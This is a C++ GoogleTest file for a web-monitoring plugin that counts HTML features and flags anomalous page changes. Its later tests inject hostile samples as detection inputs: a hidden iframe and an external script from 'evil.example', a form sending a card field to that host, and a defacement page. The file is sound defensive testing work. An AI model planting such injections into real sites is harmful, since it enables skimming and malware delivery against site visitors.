#include <gtest/gtest.h>

#include <array>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <vector>

#include "lib/stats/asset_state.hpp"
#include "lib/stats/observation.hpp"
#include "plugins/page_for_test.hpp"
#include "plugins/site_for_test.hpp"

namespace webmon::plugins {
namespace {

Report stats(const Page& page) { return run_plugin("html-stats", page).report; }

/// What the executor does with one page: run, judge, decide.
struct Watched {
  Model model;
  std::vector<Report> reports;

  AssetState see(const Page& page) {
    reports = {run_plugin("http-probe", page).report, run_plugin("html-stats", page).report};
    judge(model, reports, may_learn(decide_state(reports)));
    return decide_state(reports);
  }
  std::string findings() const {
    std::string text;
    for (const Report& report : reports) {
      for (const Finding& finding : report.findings) text += finding.message + "\n";
    }
    return text;
  }
};

std::string first_real_page() {
  std::ifstream file{"/usr/share/doc/python3.11/html/library/json.html", std::ios::binary};
  return {std::istreambuf_iterator<char>{file}, {}};
}

TEST(HtmlStats, TellsWhatIsIgnoredAndWhichRulesFoundNothing) {
  Asset asset;
  asset.ignore = IgnoreRules{{.css = ".ad", .attribute = {}, .regex = {}},
                             {.css = {}, .attribute = "nonce", .regex = {}}};
  Page page = page_for_test("<p>one");
  page.ignored = std::make_shared<const Ignored>(
      Ignored{.counts = {2, 0}, .elements = 2, .attributes = 0, .matches = 0, .bytes = 70});
  const Report report = run_plugin("html-stats", page, {}, asset).report;
  EXPECT_EQ(value_of(report, "ignored_elements"), 2);
  EXPECT_EQ(value_of(report, "ignored_bytes"), 70);
  EXPECT_EQ(report.facts.at("ignored"),
            boost::json::parse(R"({"rules":2,"elements":2,"attributes":0,"matches":0,"bytes":70,
                                   "idle":["attribute nonce"]})"));
  EXPECT_EQ(run_plugin("content-hash", page, {}, asset).report.facts.at("ignored"),
            report.facts.at("ignored"));
  EXPECT_FALSE(stats(page_for_test("<p>one")).facts.contains("ignored"));
}

TEST(HtmlStats, CountsStructureAndSizes) {
  const std::string body =
      "<html><head><title>t</title><script>var a;</script><script src=b.js></script></head>"
      "<body><h1>one two</h1><p>three</p><p hidden onclick=x()>four</p><a href=/>five</a>"
      "<iframe src=c></iframe><!-- c --></body></html>";
  const Report report = stats(page_for_test(body));
  EXPECT_EQ(report.state, ReportState::ok);
  EXPECT_EQ(value_of(report, "bytes"), static_cast<double>(body.size()));
  EXPECT_EQ(value_of(report, "text_bytes"), 23);
  EXPECT_EQ(value_of(report, "words"), 5);
  EXPECT_EQ(value_of(report, "links"), 1);
  EXPECT_EQ(value_of(report, "script_count"), 2);
  EXPECT_EQ(value_of(report, "external_scripts"), 1);
  EXPECT_EQ(value_of(report, "inline_script_bytes"), 6);
  EXPECT_EQ(value_of(report, "iframe_count"), 1);
  EXPECT_EQ(value_of(report, "frame_sources"), 1);
  EXPECT_EQ(value_of(report, "p_count"), 2);
  EXPECT_EQ(value_of(report, "h1_count"), 1);
  EXPECT_EQ(value_of(report, "form_count"), 0) << "zero is a number worth learning";
  EXPECT_EQ(value_of(report, "comments"), 1);
  EXPECT_EQ(value_of(report, "hidden_elements"), 1);
  EXPECT_EQ(value_of(report, "event_handlers"), 1);
  EXPECT_EQ(value_of(report, "max_depth"), 3);
  EXPECT_EQ(value_of(report, "tags_total"), 11);
  EXPECT_EQ(fact(report, "title"), "\"t\"");
}

TEST(HtmlStats, ReportsEveryMetricItDeclares) {
  const Report report = stats(page_for_test("<p>x"));
  constexpr std::size_t kOfIgnored = 2;  // of assets with ignore rules alone, tested below
  EXPECT_EQ(report.metrics.size() + kOfIgnored, find_plugin("html-stats")->metrics.size());
  for (const MetricSpec& spec : find_plugin("html-stats")->metrics) {
    if (spec.name.starts_with("ignored_")) continue;
    EXPECT_NE(find_value(report, spec.name), nullptr) << spec.name;
    const auto tag = spec.name.substr(0, spec.name.rfind("_count"));
    if (spec.number >= 320) {
      EXPECT_NE(tag_index(tag), kOtherTag) << tag;
    }
  }
}

TEST(HtmlStats, DoesNotLearnFromFailuresOrOtherThings) {
  Page error = page_for_test("<p>Not Found</p>");
  error.status = 404;
  EXPECT_EQ(stats(error).reason, "no_page");
  Page broken = page_for_test("<p>half a pa");
  broken.outcome = Outcome::truncated;
  EXPECT_EQ(stats(broken).reason, "no_page");
  EXPECT_EQ(stats(page_for_test("{}", "application/json")).reason, "not_html");
  EXPECT_EQ(stats(page_for_test("")).reason, "page_class");
  for (const Page& page : {error, broken}) {
    EXPECT_EQ(stats(page).state, ReportState::skipped);
    EXPECT_TRUE(stats(page).metrics.empty());
  }
}

TEST(HtmlStats, FlagsOneIframeAfterSixtyIdenticalObservations) {
  std::string body = first_real_page();
  if (body.empty()) {
    Noise noise{1};
    body = news_html(noise);
  }
  Watched watched;
  const Page page = page_for_test(body);
  for (int i = 0; i < 60; ++i) ASSERT_EQ(watched.see(page), AssetState::up) << watched.findings();
  const std::size_t at = body.rfind("</body>");
  ASSERT_NE(at, std::string::npos);
  body.insert(at, "<iframe src=\"https://evil.example/x\"></iframe>");
  EXPECT_EQ(watched.see(page_for_test(body)), AssetState::changed);
  const Report& report = watched.reports[1];
  EXPECT_EQ(report.state, ReportState::crit);
  EXPECT_EQ(report.reason, "excessive_change");
  EXPECT_NE(watched.findings().find("iframe_count is 1; over 60 observations it was 0 on average "
                                    "(sigma 0, floor 0.15): z = 6.7"),
            std::string::npos)
      << watched.findings();
}

TEST(HtmlStats, DoesNotFlagOneMoreParagraphAfterSixtyIdenticalObservations) {
  Noise noise{1};
  std::string body = news_html(noise);
  Watched watched;
  for (int i = 0; i < 60; ++i) ASSERT_EQ(watched.see(page_for_test(body)), AssetState::up);
  body.insert(body.rfind("</main>"), "<p>A correction was added to this article.</p>");
  EXPECT_EQ(watched.see(page_for_test(body)), AssetState::up) << watched.findings();
}

TEST(HtmlStats, DoesNotFlagSixtyObservationsOfOrdinaryVariation) {
  for (std::uint64_t seed = 1; seed <= 5; ++seed) {
    SCOPED_TRACE(seed);
    Noise noise{seed};
    Watched watched;
    for (int i = 0; i < 61; ++i) {
      ASSERT_EQ(watched.see(news_page(noise)), AssetState::up) << i << "\n" << watched.findings();
    }
  }
}

TEST(HtmlStats, FlagsInjectionsIntoAPageThatVaries) {
  for (const char* injected :
       {"<iframe src=//evil.example width=0></iframe>", "<script src=//evil.example/x.js></script>",
        "<form action=//evil.example><input name=card></form>", "<object data=x></object>",
        "<embed src=x>"}) {
    SCOPED_TRACE(injected);
    Noise noise{7};
    Watched watched;
    for (int i = 0; i < 60; ++i) ASSERT_EQ(watched.see(news_page(noise)), AssetState::up);
    EXPECT_EQ(watched.see(news_page(noise, injected)), AssetState::changed);
    EXPECT_EQ(watched.reports[1].state, ReportState::crit);
  }
}

TEST(HtmlStats, FlagsADefacementOnManyFeaturesAndKeepsTheWorst) {
  Noise noise{3};
  Watched watched;
  const Page page = page_for_test(news_html(noise));
  for (int i = 0; i < 60; ++i) watched.see(page);
  EXPECT_EQ(
      watched.see(page_for_test("<html><body bgcolor=black><center><h1>HACKED</h1></center>")),
      AssetState::changed);
  EXPECT_EQ(watched.reports[1].state, ReportState::crit);
  EXPECT_LE(watched.reports[1].findings.size(), kMaxStatisticalFindings);
}

TEST(HtmlStats, TellsASlowAnswerAsDegradedNotAsChanged) {
  Noise noise{4};
  Watched watched;
  for (int i = 0; i < 60; ++i) watched.see(news_page(noise));
  Page slow = news_page(noise);
  slow.hops[0].phases.processing = seconds{9};
  slow.total = milliseconds{9200};
  EXPECT_EQ(watched.see(slow), AssetState::degraded);
  EXPECT_EQ(watched.reports[0].reason, "slow");
}

}  // namespace
}  // namespace webmon::plugins
